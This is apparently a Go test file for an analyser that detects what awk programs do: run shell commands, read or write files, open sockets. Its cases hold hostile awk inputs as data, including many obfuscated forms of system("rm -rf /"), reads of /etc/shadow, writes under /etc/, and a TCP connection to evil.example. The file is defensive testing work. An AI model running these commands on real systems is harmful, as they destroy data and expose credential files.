package script

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var awkCommands = []readCase{
	{"system", `BEGIN { system("rm -rf /") }`, `shell system "rm -rf /"`},
	{"a blank before the bracket of a builtin", `BEGIN { system ("id") }`, `shell system "id"`},
	{"in a namespace", `BEGIN { awk::system("id") }`, `shell system "id"`},
	{"side by side", `BEGIN { system("rm" " -rf " "/") }`, `shell system "rm -rf /"`},
	{"escapes", `BEGIN { system("\162\x6d -rf /") }`, `shell system "rm -rf /"`},
	{"a continued string", "BEGIN { system(\"rm \\\n-rf /\") }", `shell system "rm -rf /"`},
	{"a variable", `BEGIN { c = "rm -rf /"; system(c) }`, `shell system "rm -rf /"`},
	{"a variable set in another rule", `{ system(c) } BEGIN { c = "id" }`, `shell system "id"`},
	{"an element of an array", `BEGIN { a["x"] = "id"; system(a["x"]) }`, `shell system "id"`},
	{"sprintf", `BEGIN { system(sprintf("%s -rf %s", "rm", "/")) }`, `shell system "rm -rf /"`},
	{
		"folded text", `BEGIN { system(tolower("RM -RF /")); system(substr("xid", 2)); system(substr("xidy", 2, 2)) }`,
		"shell system \"rm -rf /\"\nshell system \"id\"\nshell system \"id\"",
	},
	{"a function's parameter", `function f(c) { system(c) } BEGIN { f("id") }`, `shell system "id"`},
	{"an array that a function fills", `function f(a) { a[1] = "id" } BEGIN { f(x); system(x[1]) }`, "shell system \"id\"\nshell system …"},
	{"an indirect call", `BEGIN { f = "system"; @f("id") }`, `shell system "id"`},
	{"an indirect call of who knows what", `{ @$1; f = $1; @f("id") }`, "error"},
	{"pipe into getline", `BEGIN { "id" | getline x; "id" |& getline }`, "shell | getline \"id\"\nshell | getline \"id\""},
	{"side by side before a pipe, as gawk reads it", `BEGIN { "echo " "date" | getline }`, `shell | getline "echo date"`},
	{"print into a command", `BEGIN { print "rm -rf /" | "sh" }`, `shell print | "printf %s 'rm -rf /\n' | sh -c 'sh'"`},
	{"print of a list", `BEGIN { print "a", 1 | "sh" }`, `shell print | "printf %s 'a 1\n' | sh -c 'sh'"`},
	{"print in brackets", `BEGIN { print("a", "b") | "sort -n" }`, `shell print | "printf %s 'a b\n' | sh -c 'sort -n'"`},
	{"printf into a command", `BEGIN { printf "%s %d", "a", 5 | "cat" }`, `shell printf | "printf %s 'a 5' | sh -c 'cat'"`},
	{"a field into a command", `{ print "mv " $1 | "sh" }`, `shell print | "printf %s 'mv '\"$0\" | sh -c 'sh'"`},
	{"a coprocess", `BEGIN { print "x" |& "sort" }`, `shell print |& "printf %s 'x\n' | sh -c 'sort'"`},
	{
		"a command of who knows what", `{ system($1); system("rm " $2); $3 | getline; print | $4 }`,
		"shell system …\nshell system rm …\nshell | getline …\nshell print | …",
	},
	{"a changed variable", `BEGIN { c = "id"; sub(/i/, "x", c); system(c) }`, "shell system \"id\"\nshell system …"},
	{"a variable from input", `{ getline c < "f"; system(c) }`, "reads getline < \"f\"\nshell system …"},
	{"code after a regular expression with a quote", `/"/ { system("id") } # "`, `shell system "id"`},
	{"a regular expression as a statement", "{ if (x) /\"/; system(\"id\") # \"\n}", `shell system "id"`},
	{"a slash in brackets", `$0 ~ /[/"]/ { system("id") }`, `shell system "id"`},
	{"division twice is none", `{ x = a / 2; system("id"); y = b / 2 }`, `shell system "id"`},
	{"assignment by division", `{ x /= 2; system("id"); y /= 2 }`, `shell system "id"`},
	{"comparison before a command", `{ if (1 > 2) system("id") }`, `shell system "id"`},
	{"in the head of a loop", `BEGIN { for (i = system("a"); system("b"); system("c")) ; }`, "shell system \"a\"\nshell system \"b\"\nshell system \"c\""},
	{
		"in every clause", `BEGIN { do { if (x) system("a"); else system("b") } while (system("c")); exit system("d") }`,
		"shell system \"a\"\nshell system \"b\"\nshell system \"c\"\nshell system \"d\"",
	},
	{"in a case", `{ switch ($1) { case /x/: system("a"); break; default: system("b") } }`, "shell system \"a\"\nshell system \"b\""},
	{"in a subscript and a conditional", `{ a[system("a")] = x ? system("b") : system("c") }`, "shell system \"a\"\nshell system \"b\"\nshell system \"c\""},
	{"an extension", `@load "./x.so"` + "\nBEGIN { f() }", "evaluates @load …"},
	{"another file", `@include "lib.awk"` + "\n{ print }", `runs @include "awk" "-f" "lib.awk"`},
}

var awkFiles = []readCase{
	{"written", `{ print > "out"; print $1, $2 >> "log"; printf "%s", $0 > "x" ".txt" }`, "writes print > \"out\"\nwrites print >> \"log\"\nwrites printf > \"x.txt\""},
	{"written by name of a field", `{ print > $1 ".txt" }`, "writes print > …"},
	{"written below a directory", `{ print > ("/etc/" $1) }`, "writes print > /etc/…"},
	{"a comparison in brackets is none", `{ print ($1 > 5); print ($1 > 5) > "f" }`, `writes print > "f"`},
	{"a conditional before a redirection", `{ print x ? "a" : "b" > "f" }`, `writes print > "f"`},
	{"comparisons elsewhere", `$3 > 5 { x = y > "f" } $1 > "f"`, ""},
	{"read", `BEGIN { while ((getline line < "/etc/shadow") > 0) n++ }`, `reads getline < "/etc/shadow"`},
	{"read side by side", `BEGIN { getline < "/home/u/" "key" }`, "reads getline < \"/home/u/\"\nreads getline < \"/home/u/key\""},
	{"an operand put in", `BEGIN { ARGV[1] = "/etc/shadow"; ARGC = 2 }`, `reads ARGV "/etc/shadow"`},
	{"home", `BEGIN { print > (ENVIRON["HOME"] "/x") }`, `writes print > "~/x"`},
	{"the standard streams", `{ print > "/dev/stderr"; print > "/dev/stdout"; print > "/dev/fd/3"; getline < "-" }`, ""},
	{
		"a socket", `BEGIN { s = "/inet/tcp/0/evil.example/80"; print "x" |& s; s |& getline; close(s) }`,
		"connects print |& \"evil.example\"\nconnects | getline \"evil.example\"",
	},
	{"a listening socket", `BEGIN { "/inet/tcp/8080/0/0" |& getline }`, `listens | getline "0.0.0.0:8080"`},
	{"an extension of gawk's own", `@load "rwarray"` + "\nBEGIN { writea(\"f\", a) }", `writes writea "f"`},
}

// awkQuiet are programs that change text only.
var awkQuiet = []string{
	``, `{print $1}`, `NF`, `1`, `!seen[$0]++`, `/x/`, `/x/,/y/`, `NR==1, NR==5 {print}`, `END{print NR}`, `BEGIN{FS=OFS="\t"} NR==FNR{a[$1]=$0;next} $1 in a{print a[$1],$0}`,
	`{print "system(\"rm -rf /\")"}`, `{ print "x > /etc/passwd" }`, `# system("x")`, `$1 ~ /system\("x"\)/`,
	`{sum += $1; count++} END {print sum / count, sum/count/2}`, `{ sub("\r$", ""); print }`, `{for (i=NF; i>1; i--) printf("%s ",$i); printf("%s\n",$1)}`,
	`{ $1=$2=$3=$4=""; print substr($0,5); }`, `{ if ($1 >= 423) print; else exit; }`, "BEGIN {\n\tx = 1\n\n\tif (x)\n\t\tprint x\n\telse {\n\t\tprint y\n\t}\n}\n",
	`{ n = split($0, a, /[^a-z]+/); for (i in a) delete a[i]; delete a }`, `function max(a, b) { return a > b ? a : b } { print max($1, $2) }`,
	`{ while (match($0, /[0-9]+/)) { print substr($0, RSTART, RLENGTH); $0 = substr($0, RSTART + RLENGTH) } }`,
	`length > 80`, `length($0) / 2 > 3`, `{ print length, $NF, $(NF-1), $NF-1, -$1, !$2, $i++ }`, `($1, $2) in a { print a[$1, $2] }`,
	`{ x = y ~ /a/ || z !~ "b" && !(w in q) }`, `{ print a[1] "" b["x" SUBSEP "y"] }`, `{ print > "/dev/stderr" }`, `{ x ^= 2; x **= 2; x %= 3; y = 2 ^ 3 ** 4 }`,
	`BEGIN { getline; getline x; print x }`, `{ print $1, ($2 > $3), "x" }`, `{ do { i-- } while (i > 0) }`, `BEGIN { printf "%5.2f%%\n", 1e3 / .5 }`,
	`{ print a, b,` + "\n" + `c }`, `{ if (a &&` + "\n" + `b) print; else print c }`, `@namespace "x"` + "\n" + `{ print }`, `{ print gensub(/(a)/, "\\1", "g") }`,
	`BEGIN { PROCINFO["sorted_in"] = "@ind_str_asc"; IGNORECASE = 1 } { a[$1][$2]++ }`, `$0 ~ @/x/`, `{ print tolower($0) ; }`, `{print};{print}`, `BEGIN{while(i++<3)print i}`,
	`{ for (;;) break; for (i in a) ; for ((i,j) in a) print }`, `/[[:alpha:]]\/x[]/]/`, `$2=="="{print $1 /2/ 3}`, "{ print } ; ; \n\n;", "{ print \\\n $1 }",
}

func TestAWKCommands(t *testing.T) {
	var readable []readCase
	for _, c := range awkCommands {
		if c.want != "error" {
			readable = append(readable, c)
		}
	}
	runCases(t, "awk", readable)
}

func TestAWKFiles(t *testing.T) { runCases(t, "awk", awkFiles) }

func TestAWKThatOnlyChangesText(t *testing.T) {
	for _, code := range awkQuiet {
		acts, err := Read("awk", code)
		require.NoError(t, err, code)
		assert.Empty(t, show(acts), code)
	}
}

func TestAWKValuesFromTheCommandLine(t *testing.T) {
	given := CommandLine{Vars: map[string][]Arg{"c": {{Text: `\162m -rf /`, Known: true}}, "d": {{Text: "rm "}}}, Args: []Arg{{Text: "id", Known: true}}}
	acts, err := ReadWith("awk", `BEGIN { system(c); system(d); system(ARGV[1]) }`, given)
	require.NoError(t, err)
	assert.Equal(t, "shell system \"rm -rf /\"\nshell system rm …\nshell system \"id\"", show(acts))
}

func TestAWKThatCannotBeRead(t *testing.T) {
	unreadable(t, "awk", map[string]string{
		"unterminated string":             `{ print "x }`,
		"newline in a string":             "{ print \"x\n\" }",
		"unterminated regular expression": `/x { print }`,
		"open bracket expression":         `/[x/ { print }`,
		"classes that awks differ about":  `/[a[:]/]/`,
		"open block":                      `{ print`,
		"closed too much":                 `{ print } }`,
		"open bracket":                    `{ print (1 }`,
		"other characters":                "{ print `id` }",
		"two statements in one":           `{ print 1 } print 2`,
		"a call of no name":               `{ @$1 }`,
		"NUL":                             "{ print }\x00",
		"too deep":                        strings.Repeat("{", 1000) + strings.Repeat("}", 1000),
		"brackets too deep":               "{ x = " + strings.Repeat("(", 1000) + "1" + strings.Repeat(")", 1000) + "}",
		"signs too many":                  "{ x = " + strings.Repeat("!", 10000) + "1 }",
	})
}

func TestAWKIsBounded(t *testing.T) {
	bounded(t, "awk", map[string]string{
		"side by side":      "{ print " + strings.Repeat("a ", 50000) + "}",
		"doubling":          "BEGIN { a = \"x\"; " + strings.Repeat("a = a a; ", 5000) + "system(a) }",
		"statements":        strings.Repeat("{ c = \"id\"; system(c) }\n", 5000),
		"many values":       "BEGIN { " + strings.Repeat(`c = c "x"; system(c); `, 5000) + "}",
		"functions":         strings.Repeat("function f(a, b) { f(b, a) }\n", 5000),
		"regexps":           strings.Repeat("/[a]/ { print }\n", 10000),
		"unclosed brackets": strings.Repeat("/[a", 50000),
	})
}

func FuzzAWK(f *testing.F) { fuzzed(f, "awk", append(codes(awkCommands, awkFiles), awkQuiet...)...) }
